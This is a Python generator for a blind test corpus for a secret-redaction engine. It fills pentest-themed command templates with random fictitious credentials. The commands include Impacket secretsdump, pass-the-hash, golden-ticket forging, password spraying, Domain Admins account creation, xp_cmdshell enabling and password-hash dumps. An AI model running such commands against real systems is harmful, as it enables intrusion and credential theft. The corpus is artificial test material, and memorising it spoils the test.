# -*- coding: utf-8 -*-
"""Blind hold-out corpus #54 for a secret-redaction engine.

What it is
----------
A test corpus of text fragments of the kind a coding agent (Claude Code,
Codex, Gemini CLI) keeps as working state: goals, running notes, shell
commands it ran, tool output, excerpts of files it opened, decisions, chat
messages pasted in by teammates, log lines and CI configuration.  Each entry
in SECRETS carries exactly one credential that a redaction engine must
remove, plus (usually) a piece of surrounding text that must stay readable.
BENIGN holds fragments that look secret-ish to a naive scanner but contain
no credential at all; a good engine leaves them alone.

Theme
-----
Penetration testing, red teams and security research: engagement notes and
reports, loot from credential dumps (secretsdump, mimikatz, Responder,
hashcat potfiles, cracked passwords next to hashes), C2 frameworks' configs
and operators' keys, Burp and proxy captures, bug-bounty write-ups with
reproduction steps, cloud pentests (stolen instance-metadata credentials,
assumed roles), wifi audits (PSKs, captured handshakes) and phishing
simulation platforms.  Look-alikes include public hash test vectors,
redacted loot, tool options, CVE text and placeholders.

Provenance
----------
Written blind, from general knowledge only: no other corpus, no redaction
rules and no web or code search were consulted.  Where a vendor's real
credential shape is known it is imitated (prefix, length, alphabet); where it
is unknown, a plausible shape was invented.  All hosts, domains, people,
organisations and values are fictitious; every value is a random draw.
Hosts use reserved names (.test, .example, .internal, .local, .corp, .lan)
and IP addresses from private or documentation ranges.

Layout
------
SECRETS: list of 5-tuples (group, format, text, secret, visible)
    group    one of command, tool-output, config-file, source-code,
             stack-trace-or-log, note-or-chat, ci-and-deploy, vendor-token
    format   kebab-case name of the shape; each format is used at most 3 times
    text     the fragment as the agent would have recorded it
    secret   exact substring of text that must not survive redaction (only
             the key body for PEM keys, only the signature for signed URLs,
             only the password for user:password pairs)
    visible  substring of text that must remain readable, or ""
BENIGN: list of distinct strings with no credential in them that
    nevertheless look secret-ish (hashes, ids, placeholders, masked values,
    references to secret stores, prose about passwords, public test vectors).

Determinism
-----------
Every random value is drawn from _R = random.Random(SEED) at import time, in
a fixed order, so importing the module twice yields identical lists.
Nothing is printed at import.

Measured
--------
Blind, measured before any rule was written for it: recall 0.919 (1,373 of 1,494) and false
positives 42 of 950 (4.4%), with the engine at that session's start. Tuned on since: 0.932 and
41 of 950.
"""
import base64
import hashlib
import random
import re
import string

SEED = 54054
_R = random.Random(SEED)

# ---------------------------------------------------------------- alphabets
_LOW = string.ascii_lowercase
_UP = string.ascii_uppercase
_DIG = string.digits
_AN = string.ascii_letters + string.digits
_HEX = "0123456789abcdef"
_HEXU = "0123456789ABCDEF"
_B64 = _AN + "+/"
_B64U = _AN + "-_"
_B32 = _UP + "234567"
_B32L = _LOW + "234567"
_UPAN = _UP + _DIG
_LOWAN = _LOW + _DIG
_SYMS = "!@#$%^*?-_+=.~"


def _s(alpha, n):
    return "".join(_R.choice(alpha) for _ in range(n))


def _pick(seq):
    return _R.choice(seq)


def _b64e(text):
    return base64.b64encode(text.encode("utf-8")).decode("ascii")


def _b64ue(text):
    return base64.urlsafe_b64encode(text.encode("utf-8")).decode("ascii").rstrip("=")


def _wrap(s, n=64):
    return "\n".join(s[i:i + n] for i in range(0, len(s), n))


# ------------------------------------------------------------------ vocab
_WORDS = """falcon kestrel harbor maple cedar willow ember canyon river orchid
tiger panther copper silver granite thunder meadow lantern compass anchor
beacon summit glacier harvest prairie raven sparrow otter badger walrus
mango papaya lemon pepper ginger cobalt indigo crimson saffron amber
rocket comet nebula quasar photon falafel pretzel waffle biscuit noodle
hammer anvil chisel pickaxe lumber bridge tunnel castle tower garden
pirate wizard knight dragon goblin phoenix griffin kraken viking samurai
guitar violin trumpet banjo cello piano zither oboe tuba drum
winter autumn monsoon blizzard tornado drizzle sunset horizon lagoon island
pumpkin cactus bamboo tulip lotus jasmine clover thistle fern hazel
marble velvet satin linen cotton denim tweed flannel wool silk
bishop rook pawn castle checkmate gambit domino puzzle riddle cipher
orbit vector matrix kernel socket buffer packet router switch module""".split()
_SEASONS = ["Spring", "Summer", "Autumn", "Fall", "Winter"]
_MONTHS = ["January", "February", "March", "April", "May", "June", "July",
           "August", "September", "October", "November", "December"]
_BASEWORDS = ["Welcome", "Changeme", "Passw0rd", "Password", "Letmein",
              "Qwerty", "Admin", "Company", "Monday", "Friday", "Football",
              "Hello", "Secret", "Sunshine", "Dragon", "Master"]
_FIRST = """alice bram chen dario elif farah goran hana ivo jonas kemal lena
mateo nadia oskar priya quentin rosa sven tomas ugo vera wen yusuf zofia aiko
bjorn carmen dmitri esra felix greta hiro ines jakub kofi lucia marek noor
olga pavel rania sanne tariq ulla viktor wanjiru ximena yara zeno amara
benedikt celine dong emeka fatima gunnar hamid ingrid joao kasia""".split()
_LAST = """abara bergstrom castell dunmore eklund faraday gallo holm ishikawa
jovanovic kowalski lindqvist moreau nakamura okafor petrov quispe rahman
santos tanaka ueda vasquez whitlock xu yilmaz zelenko arnaud brandt cortez
delacroix engel fischer grimaldi hakimi iversen jensen kaplan lucero
mbeki novak ortega pham rossi sato thorne varga weber""".split()
_ORGS = [("Northwind Health", "northwind", "NORTHWIND"),
         ("Kestrel Logistics", "kestrel-log", "KESTREL"),
         ("Bluefin Capital", "bluefin", "BLUEFIN"),
         ("Orchard Mutual", "orchardmutual", "ORCHARD"),
         ("Halcyon Energy", "halcyon-energy", "HALCYON"),
         ("Tamarind Retail", "tamarind", "TAMARIND"),
         ("Quillon Biotech", "quillon", "QUILLON"),
         ("Ravelin Insurance", "ravelin", "RAVELIN"),
         ("Sable Freight", "sablefreight", "SABLE"),
         ("Marrow & Finch Law", "marrowfinch", "MFLAW"),
         ("Lumen Municipal Water", "lumenwater", "LMW"),
         ("Corvid Aerospace", "corvid-aero", "CORVID"),
         ("Pinecrest University", "pinecrest-u", "PINECREST"),
         ("Ostrava Steelworks", "ostrava-steel", "OSTRAVA"),
         ("Helios Telecom", "helios-tel", "HELIOS"),
         ("Vantor Pharma", "vantor", "VANTOR")]
_TLDS = ["test", "example", "internal", "local", "corp", "lan"]
_HOSTS = ["dc01", "dc02", "DC03", "fs01", "sql01", "SQL02", "web-prod-03",
          "wks-0412", "WKS-1177", "jump01", "adcs01", "exch01", "sccm01",
          "backup02", "vpn-gw", "nas01", "print01", "git", "jenkins",
          "gitlab", "vault", "k8s-master-1", "esxi04", "vcenter", "wsus01",
          "hr-app", "payroll01", "intranet", "erp-db", "mail", "srv-files",
          "lab-kali", "redir-02", "ts-01", "crm-web", "ldap01", "radius01"]
_SSIDS = ["Corp-WiFi", "GUEST-Lobby", "Warehouse_5G", "IoT-Sensors",
          "BoardRoom", "Staff-Secure", "POS-Net", "Lab-2.4", "Clinic-Mobile",
          "FactoryFloor", "Cafe_Guest", "Exec-5GHz", "Printers-Only"]
_DBS = ["crm", "payroll", "inventory", "app_prod", "analytics", "hr",
        "billing", "orders", "patients", "ledger", "cms", "auth"]
_SVCS = ["svc_sql", "svc_backup", "svc_sccm", "svc_iis", "svc_jenkins",
         "svc_veeam", "svc_scan", "svc_ldap", "svc_print", "svc_web",
         "svc_adsync", "svc_exchange", "sa_deploy", "svc_splunk", "svc_mssql"]
_LANGLINES = {}

# -------------------------------------------------------------- passwords
def _leet(w):
    table = {"a": "@", "e": "3", "i": "1", "o": "0", "s": "$", "t": "7"}
    return "".join(table[ch] if ch in table and _R.random() < 0.5 else ch for ch in w)


def _pw_human():
    w = _pick(_WORDS)
    w2 = _pick(_WORDS)
    sym = _pick("!@#$%*?-_+.")
    k = _R.randrange(6)
    if k == 0:
        return w.capitalize() + str(_R.randrange(1990, 2027)) + sym
    if k == 1:
        return w.capitalize() + sym + _s(_DIG, _R.randrange(3, 6))
    if k == 2:
        return _leet(w).capitalize() + _leet(w2) + _s(_DIG, 2) + sym
    if k == 3:
        return w.capitalize() + w2.capitalize() + _s(_DIG, _R.randrange(2, 4))
    if k == 4:
        return w + _s(_DIG, 2) + w2.capitalize() + sym + sym
    return sym + w.upper()[:4] + w2.lower() + _s(_DIG, 3)


def _pw_spray():
    base = _pick(_SEASONS + _MONTHS + _BASEWORDS + [o[2].capitalize() for o in _ORGS])
    return base + str(_R.randrange(2018, 2027)) + _pick(["!", "!!", "#", "@", "$", "*", "?", "1!", ".", "!#"])


def _pw_phrase():
    n = _R.randrange(3, 6)
    ws = [_pick(_WORDS) for _ in range(n)]
    sep = _pick(["-", " ", ".", "_", "", "+"])
    if sep == "" or _R.random() < 0.4:
        ws = [w.capitalize() for w in ws]
    s = sep.join(ws)
    if _R.random() < 0.5:
        s += _pick([str(_R.randrange(10, 99)), "!", sep + str(_R.randrange(1, 9))])
    return s


def _pw_pron():
    cons = "bcdfghjklmnprstvwz"
    vow = "aeiou"
    s = "".join(_pick(cons) + _pick(vow) + (_pick(cons) if _R.random() < 0.3 else "")
                for _ in range(_R.randrange(3, 5)))
    if _R.random() < 0.6:
        s = s.capitalize()
    return s + _s(_DIG, _R.randrange(2, 4)) + (_pick("!#.-*") if _R.random() < 0.5 else "")


def _pw_rand():
    n = _R.randrange(12, 25)
    alpha = _AN + _AN + "!@#%^*_-+=.?~"
    while True:
        s = _s(alpha, n)
        if any(c.isdigit() for c in s) and any(c.isupper() for c in s):
            return s


def _pw_url():
    n = _R.randrange(12, 21)
    while True:
        s = _s(_AN + _AN + "-._~", n)
        if any(c.isdigit() for c in s):
            return s


def _pw_any():
    r = _R.random()
    if r < 0.30:
        return _pw_human()
    if r < 0.40:
        return _pw_spray()
    if r < 0.55:
        return _pw_phrase()
    if r < 0.70:
        return _pw_pron()
    return _pw_rand()


def _pw_nospace():
    while True:
        p = _pw_any()
        if " " not in p:
            return p


# --------------------------------------------------------------- identity
def _org(c):
    return c["org"]


def _gen_org(c):
    return _pick(_ORGS)


def _person(c):
    return _pick(_FIRST)


def _user(c):
    f, l = _pick(_FIRST), _pick(_LAST)
    k = _R.randrange(5)
    if k == 0:
        return f[0] + l
    if k == 1:
        return f + "." + l
    if k == 2:
        return f + l[0]
    if k == 3:
        return (f[0] + l)[:8]
    return f + "_" + l


def _fqdn(c):
    o = c["org"]
    return _pick(["corp.", "ad.", "", "int."]) + o[1] + "." + _pick(_TLDS)


def _webdom(c):
    return c["org"][1] + "." + _pick(["example", "test"])


def _ip(c):
    k = _R.randrange(3)
    if k == 0:
        return "10.%d.%d.%d" % (_R.randrange(256), _R.randrange(256), _R.randrange(1, 255))
    if k == 1:
        return "172.%d.%d.%d" % (_R.randrange(16, 32), _R.randrange(256), _R.randrange(1, 255))
    return "192.168.%d.%d" % (_R.randrange(256), _R.randrange(1, 255))


def _eip(c):
    return _pick(["203.0.113.", "198.51.100.", "192.0.2."]) + str(_R.randrange(1, 255))


def _host(c):
    return _pick(_HOSTS)


def _h(c):
    return c["host"].lower() + "." + c["fqdn"]


def _email(c):
    return c["user"].replace("_", ".") + "@" + c["webdom"]


def _uuid(c):
    h = _s(_HEX, 32)
    return "%s-%s-4%s-%s%s-%s" % (h[:8], h[8:12], h[13:16], _pick("89ab"), h[17:20], h[20:32])


def _date(c):
    return "2025-%02d-%02d" % (_R.randrange(1, 13), _R.randrange(1, 29))


def _time(c):
    return "%02d:%02d:%02d" % (_R.randrange(24), _R.randrange(60), _R.randrange(60))


def _ts(c):
    return "%sT%s.%03dZ" % (c["date"], c["time"], _R.randrange(1000))


def _mac(c):
    return ":".join(_s(_HEX, 2) for _ in range(6))


def _jwt(c):
    hdr = _b64ue('{"alg":"%s","typ":"JWT"}' % _pick(["HS256", "RS256", "ES256"]))
    body = _b64ue('{"sub":"%s","iat":%d,"exp":%d,"scope":"%s"}' % (
        _s(_LOWAN, 10), 1735000000 + _R.randrange(9000000), 1745000000 + _R.randrange(9000000),
        _pick(["admin", "read write", "operator", "api", "offline_access"])))
    return hdr + "." + body + "." + _s(_B64U, 43)


def _sts(c):
    return "IQoJb3JpZ2luX2VjE" + _s(_B64, 240 + _R.randrange(60)) + "=="


def _akid(c):
    return "AKIA" + _s(_B32, 16)


def _asia(c):
    return "ASIA" + _s(_B32, 16)


def _awssk(c):
    return _s(_AN + "/+", 40)


def _pem_body(nbytes):
    return _wrap(_s(_B64, nbytes) + _pick(["", "=", "=="]))


def _ec_key(c):
    return "MHcCAQEEI" + _s(_B64, 55) + "\n" + _s(_B64, 64) + "\n" + _s(_B64, 34) + "=="


def _rsa_key(c):
    return "MIIEpAIBAAKCAQEA" + _s(_B64, 48) + "\n" + _pem_body(64 * 11 + _R.randrange(40))


def _p8_key(c):
    return "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC" + _s(_B64, 32) + "\n" + _pem_body(64 * 9 + _R.randrange(40))


def _ossh_key(c):
    head = "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gt\nZWQyNTUxOQAAACA"
    return head + _s(_B64, 55) + "\n" + _s(_B64, 70) + "\n" + _s(_B64, 70) + "\n" + _s(_B64, 70) + "\n" + _s(_B64, 30) + "="


def _wg(c):
    return _s(_B64, 42) + _pick("AEIMQUYcgkosw048") + "="


def _azkey(c):
    return _s(_B64, 86) + "=="


def _cpass(c):
    return _s(_B64, 43)


def _shadow6(c):
    return "$6$" + _s(_AN + "./", 16) + "$" + _s(_AN + "./", 86)


def _ntv2(c):
    return _s(_HEX, 32) + ":" + "0101000000000000" + _s(_HEX, 16) + _s(_HEX, 16) + "0000000002000800" + _s(_HEX, 120 + 2 * _R.randrange(40))


def _mnemonic(c):
    return " ".join(_pick(_WORDS) for _ in range(12))


def _evmkey(c):
    return "0x" + _s(_HEX, 64)


def _slackid(c):
    return _s(_DIG, _R.randrange(10, 14))


def _age(c):
    return "AGE-SECRET-KEY-1" + _s("QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L", 58)


def _num(c):
    return str(_R.randrange(2, 9999))


def _port(c):
    return str(_pick([443, 8443, 80, 8080, 50050, 31337, 1337, 4444, 8888, 3000, 5000, 7443, 9090]))


def _rid(c):
    return str(_R.randrange(1100, 4200))


def _cve(c):
    return "CVE-%d-%d" % (_R.randrange(2017, 2026), _R.randrange(1000, 49999))


def _ticket(c):
    return "%s-%d" % (_pick(["PT", "RT", "ENG", "SEC", "OPS", "VULN"]), _R.randrange(100, 9999))


def _word(c):
    return _pick(_WORDS)


def _ssid(c):
    return _pick(_SSIDS)


def _db(c):
    return _pick(_DBS)


def _svc(c):
    return _pick(_SVCS)


def _last(c):
    return _pick(_LAST)


def _krbtgs(c):
    return "$krb5tgs$23$*%s$%s$%s/%s*$%s$%s" % (
        c["svc"], c["fqdn"].upper(), _pick(["MSSQLSvc", "HTTP", "CIFS"]), c["host"], _s(_HEX, 32), _s(_HEX, 300))


def _asrep(c):
    return "$krb5asrep$23$%s@%s:%s$%s" % (c["user"], c["fqdn"].upper(), _s(_HEX, 32), _s(_HEX, 220))


_GENS = {
    "pw": lambda c: _pw_any(), "pwh": lambda c: _pw_human(), "pws": lambda c: _pw_spray(),
    "pwp": lambda c: _pw_phrase(), "pwn": lambda c: _pw_pron(), "pwr": lambda c: _pw_rand(),
    "pwu": lambda c: _pw_url(), "pwx": lambda c: _pw_nospace(),
    "org": _gen_org, "client": lambda c: c["org"][0], "slug": lambda c: c["org"][1],
    "dom": lambda c: c["org"][2], "fqdn": _fqdn, "webdom": _webdom, "person": _person,
    "last": _last, "user": _user, "ip": _ip, "eip": _eip, "host": _host, "h": _h,
    "email": _email, "uuid": _uuid, "date": _date, "time": _time, "ts": _ts, "mac": _mac,
    "jwt": _jwt, "sts": _sts, "akid": _akid, "asia": _asia, "awssk": _awssk,
    "eckey": _ec_key, "rsakey": _rsa_key, "p8key": _p8_key, "osshkey": _ossh_key,
    "wg": _wg, "azkey": _azkey, "cpass": _cpass, "shadow": _shadow6, "netntlm": _ntv2,
    "mnemonic": _mnemonic, "evmkey": _evmkey, "slackid": _slackid, "age": _age,
    "num": _num, "port": _port, "rid": _rid, "cve": _cve, "ticket": _ticket,
    "word": _word, "ssid": _ssid, "db": _db, "svc": _svc, "krbtgs": _krbtgs, "asrep": _asrep,
    "bech": lambda c: _s("qpzry9x8gf2tvdw0s3jn54khce6mua7l", 58),
    "nt": lambda c: _s(_HEX, 32), "sha": lambda c: _s(_HEX, 40),
}
_NUMFAM = {"an": _AN, "hex": _HEX, "HEX": _HEXU, "up": _UPAN, "low": _LOWAN, "dig": _DIG,
           "bs": _B64, "bu": _B64U, "bt": _B32, "btl": _B32L, "al": string.ascii_letters}


class _Ctx(dict):
    def __missing__(self, key):
        k = re.sub(r"_\d+$", "", key)
        m = re.match(r"^([A-Za-z]+?)(\d+)$", k)
        if m and m.group(1) in _NUMFAM:
            v = _s(_NUMFAM[m.group(1)], int(m.group(2)))
        else:
            v = _GENS[re.sub(r"\d+$", "", k)](self)
        self[key] = v
        return v


_PH = re.compile(u"\u00ab([A-Za-z0-9_]+)\u00bb")


def _render(t, c):
    return _PH.sub(lambda m: c[m.group(1)], t)


_FORMATS = []
_NAMES = set()


def T(group, name, text, secret, visible="", pre=None):
    """Register a template-based format."""
    if name in _NAMES:
        raise ValueError("duplicate format " + name)
    _NAMES.add(name)
    _FORMATS.append((group, name, text, secret, visible, pre))

# ======================================================================
# group: command  (shell commands the agent ran or was about to run)
# ======================================================================
_G = "command"
T(_G, "sshpass-inline-password", "$ sshpass -p '«pw»' ssh -o StrictHostKeyChecking=no «user»@«ip» 'id; hostname; sudo -l'", "«pw»", "«user»@«ip»")
T(_G, "impacket-secretsdump-userpass-target", "secretsdump.py '«dom»/«svc»:«pwx»@«ip»' -outputfile loot/«host»_dump", "«pwx»", "«dom»/«svc»")
T(_G, "impacket-psexec-pass-the-hash", "proxychains4 -q psexec.py -hashes aad3b435b51404eeaad3b435b51404ee:«nt» «dom»/Administrator@«ip» cmd.exe", "«nt»", "psexec.py")
T(_G, "impacket-wmiexec-colon-creds", "wmiexec.py -codec cp850 «fqdn»/«user»:'«pwx»'@«host».«fqdn» 'whoami /all'", "«pwx»", "wmiexec.py")
T(_G, "netexec-smb-password-spray", "nxc smb targets/«slug»_smb.txt -u «user» -p '«pws»' --continue-on-success | tee spray_«date».log", "«pws»", "nxc smb")
T(_G, "netexec-winrm-nthash", "nxc winrm «ip» -u «svc» -H «nt» -x 'Get-LocalGroupMember Administrators'", "«nt»", "nxc winrm «ip»")
T(_G, "evil-winrm-password-flag", "evil-winrm -i «ip» -u «user» -p '«pw»' -s ./ps1 -e ./exe", "«pw»", "evil-winrm -i «ip»")
T(_G, "evil-winrm-hash-flag", "evil-winrm -i «host».«fqdn» -u Administrator -H '«nt»'", "«nt»", "evil-winrm")
T(_G, "xfreerdp-slash-p", "xfreerdp /v:«ip» /u:«user» /d:«dom» /p:'«pwx»' /cert:ignore /dynamic-resolution +clipboard", "«pwx»", "/u:«user»")
T(_G, "smbclient-domain-user-percent-password", "smbclient '//«ip»/C$' -U '«dom»\\«user»%«pwx»' -c 'ls Users\\*\\Desktop\\*'", "«pwx»", "//«ip»/C$")
T(_G, "rpcclient-user-percent-pass", "rpcclient -U '«user»%«pwx»' «ip» -c 'enumdomusers; querydispinfo'", "«pwx»", "enumdomusers")
T(_G, "ldapsearch-bind-w", "ldapsearch -x -H ldap://«ip» -D '«user»@«fqdn»' -w '«pw»' -b 'DC=«slug»,DC=«word»' '(servicePrincipalName=*)' sAMAccountName", "«pw»", "ldap://«ip»")
T(_G, "bloodhound-python-collector", "bloodhound-python -d «fqdn» -u «user» -p '«pwx»' -ns «ip» -c All,LoggedOn --zip", "«pwx»", "bloodhound-python -d «fqdn»")
T(_G, "kerbrute-passwordspray-positional", "./kerbrute passwordspray -d «fqdn» --dc «ip» users_«slug».txt '«pws»'", "«pws»", "kerbrute passwordspray")
T(_G, "getuserspns-request-colon", "GetUserSPNs.py -request -dc-ip «ip» «fqdn»/«user»:«pwu» -outputfile kerberoast.hashes", "«pwu»", "GetUserSPNs.py")
T(_G, "gettgt-aeskey", "getTGT.py -aesKey «hex64» -dc-ip «ip» «fqdn»/«svc» && export KRB5CCNAME=«svc».ccache", "«hex64»", "getTGT.py")
T(_G, "ticketer-golden-krbtgt-nthash", "ticketer.py -nthash «nt» -domain-sid S-1-5-21-«dig10»-«dig9»-«dig10» -domain «fqdn» -user-id 500 Administrator", "«nt»", "ticketer.py")
T(_G, "certipy-req-password", "certipy req -u '«user»@«fqdn»' -p '«pwx»' -ca «slug»-CA -target «ip» -template ESC1-User -upn administrator@«fqdn»", "«pwx»", "certipy req")
T(_G, "certipy-auth-pfx-password", "certipy auth -pfx administrator.pfx -password '«pwr»' -dc-ip «ip»", "«pwr»", "administrator.pfx")
T(_G, "mysql-p-no-space", "mysql -h «ip» -u root -p«pwu» -e 'SELECT user,authentication_string FROM mysql.user;'", "«pwu»", "mysql -h «ip»")
T(_G, "psql-uri-password", "psql 'postgresql://«user»:«pwu»@«host».«fqdn»:5432/«db»?sslmode=require' -c '\\dt'", "«pwu»", "«host».«fqdn»:5432/«db»")
T(_G, "pgpassword-env-prefix", "PGPASSWORD='«pw»' psql -h «ip» -U postgres -d «db» -c 'select usename, passwd from pg_shadow'", "«pw»", "psql -h «ip»")
T(_G, "mongosh-srv-uri", "mongosh \"mongodb+srv://«user»:«pwu»@cluster0.«slug».mongo.test/«db»?retryWrites=true\" --eval 'db.users.findOne()'", "«pwu»", "cluster0.«slug».mongo.test")
T(_G, "redis-cli-a-flag", "redis-cli -h «ip» -p 6379 -a '«pwx»' --no-auth-warning CONFIG GET dir", "«pwx»", "redis-cli -h «ip»")
T(_G, "sqlcmd-sa-capital-p", "sqlcmd -S «ip»,1433 -U sa -P '«pwx»' -Q \"EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE;\"", "«pwx»", "sqlcmd -S «ip»,1433")
T(_G, "msfconsole-x-set-smbpass", "msfconsole -q -x 'use exploit/windows/smb/psexec; set RHOSTS «ip»; set SMBUser «user»; set SMBPass «pwx»; set LHOST tun0; run'", "«pwx»", "exploit/windows/smb/psexec")
T(_G, "msfrpcd-capital-p", "msfrpcd -U msf -P '«pwr»' -a 127.0.0.1 -p 55553 -S", "«pwr»", "msfrpcd -U msf")
T(_G, "cobaltstrike-teamserver-positional-password", "sudo ./teamserver «eip» '«pwx»' profiles/«word».profile 2025-12-31", "«pwx»", "./teamserver «eip»")
T(_G, "curl-basic-u-flag", "curl -sk -u «user»:'«pwx»' https://«host».«fqdn»/api/v1/users | jq .", "«pwx»", "https://«host».«fqdn»/api/v1/users")
T(_G, "curl-bearer-header-jwt", "curl -s https://api.«webdom»/v2/admin/export -H 'Authorization: Bearer «jwt»' -o export.json", "«jwt»", "https://api.«webdom»/v2/admin/export")
T(_G, "wget-http-password", "wget --user=«user» --http-password='«pwx»' -r -np https://«host».«fqdn»/backups/", "«pwx»", "--user=«user»")
T(_G, "git-clone-token-in-url", "git clone https://oauth2:glpat-«bu20»@gitlab.«webdom»/infra/«word»-deploy.git", "glpat-«bu20»", "gitlab.«webdom»/infra/«word»-deploy.git")
T(_G, "docker-login-p-flag", "docker login registry.«webdom» -u «user» -p '«pwx»'", "«pwx»", "docker login registry.«webdom»")
T(_G, "echo-password-stdin-pipe", "echo '«pwx»' | docker login harbor.«fqdn» --username robot$«word» --password-stdin", "«pwx»", "--password-stdin")
T(_G, "htpasswd-batch-mode", "htpasswd -bB /etc/nginx/.htpasswd «user» '«pw»'", "«pw»", "/etc/nginx/.htpasswd")
T(_G, "openssl-pkcs12-passout", "openssl pkcs12 -export -in «user».crt -inkey «user».key -out «user».pfx -passout pass:«pwu»", "«pwu»", "«user».pfx")
T(_G, "zip-encrypt-loot-archive", "zip -r -e -P '«pwr»' loot_«slug»_«date».zip loot/ notes/", "«pwr»", "loot_«slug»_«date».zip")
T(_G, "7z-p-no-space", "7z a -t7z -mhe=on -p«pwu» evidence_«ticket».7z ./evidence", "«pwu»", "evidence_«ticket».7z")
T(_G, "gpg-batch-passphrase", "gpg --batch --yes --passphrase '«pwp»' -c --cipher-algo AES256 report_«slug»_final.pdf", "«pwp»", "report_«slug»_final.pdf")
T(_G, "wpa-passphrase-generate", "wpa_passphrase '«ssid»' '«pw»' > /etc/wpa_supplicant/«ssid».conf", "«pw»", "/etc/wpa_supplicant/«ssid».conf")
T(_G, "nmcli-wifi-connect-password", "nmcli dev wifi connect '«ssid»' password '«pw»' ifname wlan1", "«pw»", "nmcli dev wifi connect '«ssid»'")
T(_G, "airdecap-ng-psk-flag", "airdecap-ng -e '«ssid»' -p '«pw»' captures/«ssid»-01.cap", "«pw»", "captures/«ssid»-01.cap")
T(_G, "export-aws-secret-env", "export AWS_ACCESS_KEY_ID=«asia»\nexport AWS_SECRET_ACCESS_KEY=«awssk»\nexport AWS_SESSION_TOKEN=«sts»\naws sts get-caller-identity", "«awssk»", "aws sts get-caller-identity")
T(_G, "aws-configure-set-secret", "aws configure set aws_secret_access_key «awssk» --profile «slug»-stolen", "«awssk»", "--profile «slug»-stolen")
T(_G, "az-login-service-principal-p", "az login --service-principal -u «uuid» -p '«an3»8Q~«bu34»' --tenant «uuid_2»", "«an3»8Q~«bu34»", "az login --service-principal")
T(_G, "kubectl-create-secret-from-literal", "kubectl -n «word» create secret generic db-creds --from-literal=username=«user» --from-literal=password='«pw»'", "«pw»", "kubectl -n «word» create secret generic db-creds")
T(_G, "kubectl-token-flag", "kubectl --server https://«ip»:6443 --insecure-skip-tls-verify --token=«jwt» get secrets -A", "«jwt»", "get secrets -A")
T(_G, "vault-login-positional-token", "VAULT_ADDR=https://vault.«fqdn»:8200 vault login hvs.«an24»", "hvs.«an24»", "https://vault.«fqdn»:8200")
T(_G, "vault-kv-put-password-pair", "vault kv put secret/engagements/«slug»/c2 teamserver_password='«pwx»' operator=«person»", "«pwx»", "secret/engagements/«slug»/c2")
T(_G, "ansible-extra-vars-password", "ansible-playbook -i inventories/«slug».ini site.yml -e 'ansible_user=«user» ansible_password=«pwx» ansible_become_pass=«pwx»'", "«pwx»", "inventories/«slug».ini")
T(_G, "windows-net-user-add", "net user «word»_adm «pwx» /add /domain && net group \"Domain Admins\" «word»_adm /add /domain", "«pwx»", "net group \"Domain Admins\"")
T(_G, "windows-net-use-share", "net use \\\\«host»\\C$ /user:«dom»\\«user» «pwx»", "«pwx»", "\\\\«host»\\C$")
T(_G, "powershell-convertto-securestring", "$pw = ConvertTo-SecureString '«pwx»' -AsPlainText -Force; $c = New-Object PSCredential('«dom»\\«user»', $pw); Enter-PSSession -ComputerName «host» -Credential $c", "«pwx»", "Enter-PSSession -ComputerName «host»")
T(_G, "mimikatz-sekurlsa-pth-ntlm", "mimikatz.exe \"privilege::debug\" \"sekurlsa::pth /user:«user» /domain:«fqdn» /ntlm:«nt» /run:powershell.exe\" exit", "«nt»", "sekurlsa::pth")
T(_G, "rubeus-asktgt-rc4", "Rubeus.exe asktgt /user:«svc» /domain:«fqdn» /rc4:«nt» /ptt /nowrap", "«nt»", "Rubeus.exe asktgt")
T(_G, "rubeus-asktgt-password", "Rubeus.exe asktgt /user:«user» /password:«pwx» /enctype:aes256 /opsec /nowrap", "«pwx»", "/enctype:aes256")
T(_G, "sysinternals-psexec-u-p", "PsExec64.exe \\\\«host» -accepteula -u «dom»\\«svc» -p «pwx» -s cmd /c \"whoami & hostname\"", "«pwx»", "PsExec64.exe \\\\«host»")
T(_G, "sqlmap-auth-cred", "sqlmap -u 'https://«webdom»/portal/report?id=4' --auth-type=Basic --auth-cred='«user»:«pwx»' --batch --dbs", "«pwx»", "--auth-type=Basic")
T(_G, "ffuf-cookie-header-session", "ffuf -u https://app.«webdom»/api/invoice/FUZZ -w ids.txt -H 'Cookie: session=«bu48»; csrftoken=«an32»' -mc 200", "«bu48»", "ffuf -u https://app.«webdom»/api/invoice/FUZZ")
T(_G, "nuclei-auth-header", "nuclei -l live_hosts.txt -t exposures/ -H 'X-Api-Key: «hex40»' -rl 50 -o nuclei_«slug».txt", "«hex40»", "nuclei -l live_hosts.txt")
T(_G, "snmpwalk-community-string", "snmpwalk -v2c -c '«pwu»' «ip» 1.3.6.1.2.1.25.4.2.1.2", "«pwu»", "snmpwalk -v2c")
T(_G, "snmpwalk-v3-auth-priv", "snmpwalk -v3 -l authPriv -u «user» -a SHA -A '«pwx»' -x AES -X '«pwr»' «ip» system", "«pwr»", "snmpwalk -v3 -l authPriv")
T(_G, "ipmitool-lanplus-password", "ipmitool -I lanplus -H «ip» -U ADMIN -P '«pwx»' user list 1", "«pwx»", "ipmitool -I lanplus -H «ip»")
T(_G, "mosquitto-pub-password", "mosquitto_pub -h «ip» -p 8883 --capath /etc/ssl/certs -u «user» -P '«pwx»' -t 'plant/line3/cmd' -m 'status'", "«pwx»", "plant/line3/cmd")
T(_G, "rabbitmqctl-add-user", "rabbitmqctl add_user «svc» '«pwx»' && rabbitmqctl set_user_tags «svc» administrator", "«pwx»", "rabbitmqctl set_user_tags «svc»")
T(_G, "keytool-storepass", "keytool -list -v -keystore app/keystore.jks -storepass '«pwx»' | grep -i alias", "«pwx»", "app/keystore.jks")
T(_G, "lftp-user-comma-pass", "lftp -u «user»,'«pwx»' sftp://«ip» -e 'mirror /var/backups ./ftp_loot; bye'", "«pwx»", "sftp://«ip»")
T(_G, "pth-winexe-user-hash", "pth-winexe -U '«dom»/Administrator%aad3b435b51404eeaad3b435b51404ee:«nt»' //«ip» cmd.exe", "«nt»", "pth-winexe")
T(_G, "chisel-server-auth", "./chisel server -p «port» --reverse --auth «user»:«pwu» --socks5", "«pwu»", "./chisel server")
T(_G, "python-oneliner-requests-auth", "python3 -c \"import requests; print(requests.get('https://«host».«fqdn»/api/health', auth=('«user»', '«pwx»'), verify=False).text)\"", "«pwx»", "https://«host».«fqdn»/api/health")
